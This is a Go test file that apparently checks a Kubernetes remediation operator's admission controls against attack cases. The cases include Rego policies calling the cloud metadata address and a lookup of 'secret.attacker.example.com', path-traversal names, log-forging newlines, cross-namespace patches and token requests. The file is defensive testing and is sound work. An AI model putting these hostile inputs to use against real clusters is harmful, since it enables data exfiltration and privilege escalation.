package admission

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"time"

	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"sigs.k8s.io/controller-runtime/pkg/client"

	catalogv1alpha1 "kubernaut.io/kubernaut/api/catalog/v1alpha1"
	remediationv1 "kubernaut.io/kubernaut/api/remediation/v1"
	safetyv1alpha1 "kubernaut.io/kubernaut/api/safety/v1alpha1"
	"kubernaut.io/kubernaut/api/shared"
	workflowexecutionv1 "kubernaut.io/kubernaut/api/workflowexecution/v1"
	"kubernaut.io/kubernaut/controllers/identity"
	"kubernaut.io/kubernaut/policies/gate"
	"kubernaut.io/kubernaut/test/cluster"
)

// Policies that are to take the operator down, or to look out of it.
func policyAttacks() (rows []attack) {
	webhook := []setup{bothGuards, onlyWebhook}
	try := func(name, want string, policy *safetyv1alpha1.SafetyPolicy) {
		rows = append(rows, attack{
			group: "policy", name: name, by: "alice", request: "POST safetypolicies", want: want, in: webhook,
			do: func(ctx context.Context, w *world) error {
				dry := *w
				dry.dryRun = true
				return dry.create(ctx, "alice", w.stamped("alice", policy.DeepCopy()))
			},
		})
	}
	calls := func(name, function, call string) {
		try(name, "undefined function "+function, policyOf("p", `deny contains "x" if `+call, ""))
	}
	calls("a policy that reads the environment", "opa.runtime", `opa.runtime().env.HOME`)
	rows[0].rule = "validate-safetypolicy"
	calls("a policy that calls out", "http.send", `http.send({"method": "get", "url": "http://169.254.169.254/"}).status_code == 200`)
	calls("a policy that resolves a name", "net.lookup_ip_addr", `net.lookup_ip_addr("secret.attacker.example.com")`)
	calls("a policy that throws dice", "rand.intn", `rand.intn("x", 2) == 1`)
	calls("a policy with a clock of its own", "time.now_ns", `time.now_ns() > 0`)
	calls("a policy that makes identities", "uuid.rfc4122", `uuid.rfc4122("x") != ""`)
	calls("a policy that makes code", "rego.parse_module", `rego.parse_module("a", "package a")`)
	calls("a policy that traces", "trace", `trace("x")`)
	calls("a policy that makes long lists", "numbers.range", `count(numbers.range(1, 1000000000)) > 0`)
	try("a policy in the package of another", "must be kubernaut.safety.p", func() *safetyv1alpha1.SafetyPolicy {
		p := policyOf("protected-namespaces", `deny contains "x" if false`, "")
		p.Name = "p"
		return p
	}())
	try("a policy that reads what others decide", "data.kubernaut.safety", policyOf("p", `deny contains "x" if count(data.kubernaut.safety.cooldown.deny) > 0`, ""))
	const ones = "\n\nones := [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20]"
	const loop = "some a in ones; some b in ones; some c in ones; some d in ones; some e in ones; some f in ones; some g in ones; some h in ones"
	try("a test that loops", "test_loops took longer", policyOf("p", `deny contains "x"`, "test_loops if count([1 | "+loop+"; a + b + c + d + e + f + g + h < 0]) == count(policy.deny)"+ones))
	try("a test that explodes in memory", "spec.tests", policyOf("p", `deny contains "x"`, `test_grows if count({sprintf("%v%v%v%v%v%v%v%v", [a, b, c, d, e, f, g, h]) | `+loop+`}) == count(policy.deny)`+ones))
	try("a test that fails", "p_test.rego", policyOf("p", `deny contains "x"`, "test_fails if count(policy.deny) == 0"))
	rows = append(rows, attack{
		group: "policy", name: "a module larger than one may be", by: "alice", request: "POST safetypolicies", want: "spec.source.rego: Too long",
		do: func(ctx context.Context, w *world) error {
			dry := *w
			dry.dryRun = true
			return dry.create(ctx, "alice", w.stamped("alice", policyOf("p", "# "+strings.Repeat("x", 300<<10), "")))
		},
	}, attack{
		group: "policy", name: "a policy that loops when it is asked", by: "alice", request: "POST safetypolicies, and a decision", in: webhook,
		want: "no effect: policy_error of endless within the time limit, and every other policy decides",
		do: func(ctx context.Context, w *world) error {
			endless := policyOf("endless", "deny contains \"x\" if count([1 | "+loop+"; a + b + c + d + e + f + g + h < 0]) > 0"+ones, "")
			if err := w.create(ctx, "alice", w.stamped("alice", endless)); err != nil {
				return errors.Join(errUnexpected, err)
			}
			defer func() { _ = admin.Delete(context.WithoutCancel(ctx), endless) }()
			for began := time.Now(); time.Since(began) < readyTimeout; {
				asked := time.Now()
				decision := gates[0].Evaluate(ctx, gate.NewInput(gate.StageStep, asked))
				for _, result := range decision.Results {
					if result.Policy == "endless" && result.Code == shared.CodePolicyError && time.Since(asked) < readyTimeout/2 {
						return errors.New("no effect: policy_error of endless within the time limit, and every other policy decides")
					}
				}
			}
			return nil // it was not refused
		},
	})
	return rows
}

// What a controller with a mistake, or somebody with its token, creates.
func mistakenAttacks() (rows []attack) {
	try := func(name, kind, want string, change func(*unstructured.Unstructured)) {
		by := creatorOf(kind)
		rows = append(rows, attack{
			group: "mistake", name: name, by: by, request: "POST " + rowOf(kind).Resource, want: want, in: []setup{bothGuards, onlyWebhook},
			do: func(ctx context.Context, w *world) error {
				dry := *w
				dry.dryRun = true
				object := child(w, by, kind)
				change(object)
				return dry.create(ctx, by, object)
			},
		})
	}
	set := func(value any, path ...string) func(*unstructured.Unstructured) {
		return func(u *unstructured.Unstructured) {
			if err := unstructured.SetNestedField(u.Object, value, path...); err != nil {
				panic(err)
			}
		}
	}
	try("a second execution of one attempt", "KubernetesExecution", "it must be fixture-s0-a1", func(u *unstructured.Unstructured) { u.SetName("fixture-s0-a1-again") })
	try("an execution for any object of the name", "KubernetesExecution", "spec.expectedTarget: Required value", func(u *unstructured.Unstructured) {
		unstructured.RemoveNestedField(u.Object, "spec", "expectedTarget")
	})
	try("an execution on a name that climbs out of its path", "KubernetesExecution", "spec.action.scaleDeployment.name: Invalid value", set("../nodes", "spec", "action", "scaleDeployment", "name"))
	try("an execution that undoes as if it was a step", "KubernetesExecution", "it must be fixture-s0-r1", func(u *unstructured.Unstructured) {
		unstructured.RemoveNestedField(u.Object, "spec", "action")
		set("RollBack", "spec", "purpose")(u)
		set("fixture-s0-a1", "spec", "restoreFrom")(u)
	})
	try("an examination of a kind that is none", "RemediationProcessing", "spec.target.kind: Invalid value", set("deployment", "spec", "target", "kind"))
	try("an examination with another name", "RemediationProcessing", "it must be fixture-processing", func(u *unstructured.Unstructured) { u.SetName("fixture-processing-2") })
	try("an examination of a recovery that none was", "RemediationProcessing", "spec.failedWorkflowRef: Invalid value", func(u *unstructured.Unstructured) {
		u.SetName(shared.ProcessingName(fixture, 1))
		set(true, "spec", "isRecoveryAttempt")(u)
		set(int64(1), "spec", "recoveryAttemptNumber")(u)
	})
	try("an analysis of a failure before the first attempt", "AIAnalysis", "spec.failedStep: Forbidden", set(int64(0), "spec", "failedStep"))
	try("an analysis of a signal that forges a line of the log", "AIAnalysis", "spec.signalContext.name: Invalid value", set("x\nlevel=info msg=approved", "spec", "signalContext", "name"))
	try("an analysis with another name", "AIAnalysis", "it must be fixture-analysis", func(u *unstructured.Unstructured) { u.SetName("other") })
	return rows
}

// Every other route by which somebody with rights in one namespace could have something changed in another.
func routeAttacks() (rows []attack) {
	add := func(name, request, want string, in []setup, do func(context.Context, *world) error) {
		rows = append(rows, attack{group: "route", name: name, by: heidi, request: request, want: want, in: in, do: do})
	}
	webhook := []setup{bothGuards, onlyWebhook}
	own := func(w *world, object client.Object) *unstructured.Unstructured {
		object.SetNamespace("heidi")
		return w.stamped(heidi, object)
	}
	created := func(ctx context.Context, w *world, object client.Object) (*unstructured.Unstructured, error) {
		u := own(w, object)
		return w.resource(heidi, rowOf(u.GetKind()), "heidi").Create(ctx, u, metav1.CreateOptions{})
	}
	ownTarget := func(r *remediationv1.RemediationRequest) { r.Spec.Target.Namespace = "heidi" }
	add("turn one's own workflow to another namespace after it was let through", "merge patch workflowexecutions", "immutable after creation", nil, func(ctx context.Context, w *world) error {
		let, err := created(ctx, w, workflow("w-", nil, scaleIn("a", "heidi")))
		if err != nil {
			return errors.Join(errUnexpected, err)
		}
		body := `{"spec":{"workflowDefinition":{"steps":[{"name":"a","action":{"type":"scale-deployment","scaleDeployment":{"namespace":"shop","name":"cart","replicas":0}}}]}}}`
		_, err = w.resource(heidi, rowOf("WorkflowExecution"), "heidi").Patch(ctx, let.GetName(), types.MergePatchType, []byte(body), metav1.PatchOptions{})
		return err
	})
	add("turn one's own request to another namespace after it was let through", "merge patch remediationrequests", "immutable after creation", nil, func(ctx context.Context, w *world) error {
		let, err := created(ctx, w, request("r-", ownTarget))
		if err != nil {
			return errors.Join(errUnexpected, err)
		}
		_, err = w.resource(heidi, rowOf("RemediationRequest"), "heidi").Patch(ctx, let.GetName(), types.MergePatchType, []byte(`{"spec":{"target":{"namespace":"shop"}}}`), metav1.PatchOptions{})
		return err
	})
	add("have the orchestrator make the workflow for one's own request", "POST workflowexecutions by the orchestrator", "heidi may not remediate deployments.apps cart in namespace shop", webhook,
		func(ctx context.Context, w *world) error {
			filed, err := created(ctx, w, request("r-", ownTarget))
			if err != nil {
				return errors.Join(errUnexpected, err)
			}
			of := &remediationv1.RemediationRequest{ObjectMeta: metav1.ObjectMeta{Namespace: "heidi", Name: filed.GetName(), UID: filed.GetUID()}}
			of.Spec.RequestedBy = w.users[heidi]
			dry := *w
			dry.dryRun = true
			return dry.create(ctx, identity.RemediationRequest, w.stamped(identity.RemediationRequest, serving(of, scaleIn("a", workNamespace))))
		})
	add("leave the namespace of the target out, and hope for another", "POST workflowexecutions", "scaleDeployment.namespace", nil, func(ctx context.Context, w *world) error {
		u := own(w, workflow("w-", nil, scaleIn("a", "heidi")))
		steps, _, _ := unstructured.NestedSlice(u.Object, "spec", "workflowDefinition", "steps")
		unstructured.RemoveNestedField(steps[0].(map[string]any), "action", "scaleDeployment", "namespace") //nolint:errcheck,forcetypeassert // made above
		if err := unstructured.SetNestedSlice(u.Object, steps, "spec", "workflowDefinition", "steps"); err != nil {
			return errors.Join(errUnexpected, err)
		}
		return w.create(ctx, heidi, u)
	})
	add("name a Deployment elsewhere by a path", "POST workflowexecutions", "scaleDeployment.name: Invalid value", webhook, func(ctx context.Context, w *world) error {
		s := scaleIn("a", "heidi")
		s.Action.ScaleDeployment.Name = "../../shop/deployments/cart"
		return w.create(ctx, heidi, own(w, workflow("w-", nil, s)))
	})
	add("set two actions, one allowed and one not", "POST workflowexecutions", "spec.workflowDefinition.steps[0].action", nil, func(ctx context.Context, w *world) error {
		s := scaleIn("a", "heidi")
		s.Action.RollbackDeployment = &shared.RollbackDeployment{Namespace: workNamespace, Name: "cart"}
		return w.create(ctx, heidi, own(w, workflow("w-", nil, s)))
	})
	add("hide a target elsewhere in a rollback action", "POST workflowexecutions", "spec.workflowDefinition.steps[0].rollback", webhook, func(ctx context.Context, w *world) error {
		s := scaleIn("a", "heidi")
		s.Rollback, s.RollbackAction = shared.RollbackAction, new(scale("cart"))
		return w.create(ctx, heidi, own(w, workflow("w-", nil, s)))
	})
	add("have one's own workflow adopted by a request elsewhere", "merge patch workflowexecutions", "owner references to objects of Kubernaut", nil, func(ctx context.Context, w *world) error {
		let, err := created(ctx, w, workflow("w-", nil, scaleIn("a", "heidi")))
		if err != nil {
			return errors.Join(errUnexpected, err)
		}
		body := fmt.Sprintf(`{"metadata":{"ownerReferences":[{"apiVersion":"remediation.kubernaut.io/v1","kind":"RemediationRequest","name":%q,"uid":%q,"controller":true}]}}`, fixture, reference.UID)
		_, err = w.resource(heidi, rowOf("WorkflowExecution"), "heidi").Patch(ctx, let.GetName(), types.MergePatchType, []byte(body), metav1.PatchOptions{})
		return err
	})
	add("an execution of one's own that acts elsewhere", "POST kubernetesexecutions", "kubernetesexecutions are created only by", nil, func(ctx context.Context, w *world) error {
		object := child(w, heidi, "KubernetesExecution")
		object.SetNamespace("heidi")
		return w.create(ctx, heidi, object)
	})
	add("stop or start the workflow of others", "merge patch workflowexecutions", "cannot patch resource", nil, func(ctx context.Context, w *world) error {
		return w.patch(ctx, heidi, "WorkflowExecution", types.MergePatchType, `{"spec":{"suspend":true}}`)
	})
	add("a playbook that names a target elsewhere", "POST playbooks", "cannot create resource", nil, func(ctx context.Context, w *world) error {
		return w.create(ctx, heidi, w.stamped(heidi, aPlaybook()))
	})
	add("a policy that would permit it", "POST safetypolicies", "cannot create resource", nil, func(ctx context.Context, w *world) error {
		return w.create(ctx, heidi, w.stamped(heidi, policyOf("p", `deny contains "x" if false`, "")))
	})
	add("act as a controller", "impersonation", "cannot impersonate resource", nil, func(ctx context.Context, w *world) error {
		c, err := dynamic.NewForConfig(cluster.Impersonated(w.configs[heidi], operatorNamespace, identity.KubernetesExecution))
		if err != nil {
			return errors.Join(errUnexpected, err)
		}
		return c.Resource(remediationv1.GroupVersion.WithResource("remediationrequests")).Namespace("heidi").Delete(ctx, "any", metav1.DeleteOptions{})
	})
	add("ask for the token of an action", "POST serviceaccounts/token", `cannot create resource "serviceaccounts/token"`, nil, func(ctx context.Context, w *world) error {
		account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: identity.Action(shared.ActionScaleDeployment)}}
		return clientOf(w.configs[heidi]).SubResource("token").Create(ctx, account, &authenticationv1.TokenRequest{})
	})
	add("the controller of executions asks for the token of another controller", "POST serviceaccounts/token by the kubernetesexecution-controller", `cannot create resource "serviceaccounts/token"`, nil,
		func(ctx context.Context, w *world) error {
			account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: identity.RemediationRequest}}
			return clientOf(w.configs[identity.KubernetesExecution]).SubResource("token").Create(ctx, account, &authenticationv1.TokenRequest{})
		})
	add("the manager asks for the token of an action", "POST serviceaccounts/token by the manager", `cannot create resource "serviceaccounts/token"`, nil, func(ctx context.Context, w *world) error {
		account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: operatorNamespace, Name: identity.Action(shared.ActionScaleDeployment)}}
		return clientOf(w.configs[identity.Manager]).SubResource("token").Create(ctx, account, &authenticationv1.TokenRequest{})
	})
	return rows
}

// What is refused for what it says, whoever says it: a row for each sentence of the rules.
func validationAttacks() (rows []attack) {
	webhook := []setup{bothGuards, onlyWebhook}
	try := func(name, want string, object client.Object) {
		kinds, _, err := scheme.ObjectKinds(object)
		if err != nil {
			panic(err)
		}
		rows = append(rows, attack{
			group: "validation", name: name, by: "alice", request: "POST " + rowOf(kinds[0].Kind).Resource, want: want, in: webhook,
			do: func(ctx context.Context, w *world) error {
				dry := *w
				dry.dryRun = true
				return dry.create(ctx, "alice", w.stamped("alice", object.DeepCopyObject().(client.Object))) //nolint:errcheck,forcetypeassert // a copy has the type of the original
			},
		})
	}
	steps := func(steps ...shared.Step) client.Object { return workflow("w-", nil, steps...) }
	asks := func(change func(*remediationv1.RemediationRequest)) client.Object { return request("r-", change) }
	acting := func(action shared.Action) client.Object {
		s := step("a")
		s.Action = action
		return steps(s)
	}
	image := func(reference string) client.Object {
		return acting(shared.Action{Type: shared.ActionUpdateImage, UpdateImage: &shared.UpdateImage{Namespace: workNamespace, Name: "cart", Container: "app", Image: reference}})
	}
	try("a message that says nothing", "it is blank: say what people are to know", acting(shared.Action{Type: shared.ActionNotifyOnly, NotifyOnly: &shared.NotifyOnly{Message: "  "}}))
	try("an action that is large as JSON", "an action is at most 4096 bytes of JSON", acting(shared.Action{Type: shared.ActionNotifyOnly, NotifyOnly: &shared.NotifyOnly{Message: strings.Repeat("\u0001", 1000)}}))
	try("an image that is none", "is not an image reference", image("a b"))
	try("an image with a digest that was cut", "a sha256 digest has 64 hexadecimal digits, not 63: copy it again", image("cart@sha256:"+strings.Repeat("a", 63)))
	try("a step that waits for itself", "a step cannot wait for itself: remove it", steps(step("a", "a")))
	try("a step that waits for nobody", "no step of this workflow has that name: name one of a", steps(step("a", "b")))
	try("a step that waits for another twice", "dependsOn[1]: Duplicate value", steps(step("a"), step("b", "a", "a")))
	try("steps that wait in a circle", "the steps wait for each other, so none could ever start: a → b → a", steps(step("a", "b"), step("b", "a")))
	try("a time-out shorter than the steps", "the steps may take 5m0s if every attempt uses its whole time-out", workflow("w-", func(w *workflowexecutionv1.WorkflowExecution) {
		w.Spec.Timeouts = &workflowexecutionv1.WorkflowTimeouts{Workflow: &metav1.Duration{Duration: time.Second}}
	}, step("a")))
	try("a version of an API that is none", "write group/version, such as apps/v1", asks(func(r *remediationv1.RemediationRequest) { r.Spec.Target.APIVersion = "a/b/c" }))
	try("a kind that is none", "write the kind in CamelCase, such as Deployment", asks(func(r *remediationv1.RemediationRequest) { r.Spec.Target.Kind = "deployment" }))
	try("a namespace for what has none", "Node is cluster-scoped: leave the namespace out", asks(func(r *remediationv1.RemediationRequest) {
		r.Spec.Target = shared.Target{APIVersion: "v1", Kind: "Node", Name: "worker", Namespace: workNamespace}
	}))
	try("a label of a signal without a name", "a key is empty: name it or remove it", asks(func(r *remediationv1.RemediationRequest) {
		r.Spec.SignalContext.Labels = map[string]shared.LabelText{"": "x"}
	}))
	try("a label that forges a line of the log", "it has control characters or is not UTF-8: remove them", asks(func(r *remediationv1.RemediationRequest) {
		r.Spec.SignalContext.Labels = map[string]shared.LabelText{"pod": "a\nb"}
	}))
	try("an overall time-out shorter than its parts", "spec.timeouts.overall: Invalid value", asks(func(r *remediationv1.RemediationRequest) {
		r.Spec.Timeouts = &remediationv1.RemediationTimeouts{Overall: &metav1.Duration{Duration: time.Second}}
	}))
	try("a playbook with an expression that is none", "spec.match.expression: Invalid value", func() client.Object {
		p := aPlaybook()
		p.Spec.Match.Expression = "env.HOME"
		return p
	}())
	try("a playbook with a parameter that is none", "spec.workflow.steps[0].parameters", aPlaybook(catalogv1alpha1.PlaybookStep{
		Name: "a", Type: shared.ActionScaleDeployment, Parameters: map[string]catalogv1alpha1.ParameterText{"namespace": "shop", "name": "cart", "replicas": "many"},
	}))
	rows = append(rows, attack{
		group: "validation", name: "a workflow of the orchestrator that names nobody", by: identity.RemediationRequest, request: "POST workflowexecutions", in: webhook,
		want: "requestedBy",
		do: func(ctx context.Context, w *world) error {
			dry := *w
			dry.dryRun = true
			object := child(w, identity.RemediationRequest, "WorkflowExecution")
			w.setRequester(object, shared.Requester{})
			return dry.create(ctx, identity.RemediationRequest, object)
		},
	})
	return rows
}
